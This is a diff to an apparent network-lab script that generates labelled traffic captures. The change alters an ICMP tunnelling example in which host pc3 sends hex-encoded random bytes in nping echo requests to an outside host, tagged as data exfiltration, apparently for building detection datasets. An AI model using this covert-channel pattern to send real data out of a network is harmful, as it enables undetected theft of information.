@@ -59,12 +59,12 @@ def shell(lab):
     lab.outside.sysctl("net.ipv4.icmp_echo_ignore_all=0")
 
 
-@capture("icmptunnel_upload_nping", "a file sent in echo requests with nping: 18 with 900 other bytes each, mirrored by the outside host",
+@capture("icmptunnel_upload_nping", "a file sent in echo requests with nping: 30 with 480 other bytes each, mirrored by the outside host",
          expect=[(ICMP, by("pc3", "outside"))], allow=["icmp-flood", "data-exfiltration"])
 def nping(lab):
     yield
-    for n in range(18):
-        lab.pc3.run(f"nping --icmp -c 1 --data $(head -c 900 /dev/urandom | od -An -v -tx1 | tr -d ' \\n') {OUTSIDE} >/dev/null 2>&1 &")
+    for n in range(30):
+        lab.pc3.run(f"nping --icmp -c 1 --data $(head -c 480 /dev/urandom | od -An -v -tx1 | tr -d ' \\n') {OUTSIDE} >/dev/null 2>&1 &")
         time.sleep(0.03)
     time.sleep(1.5)
 
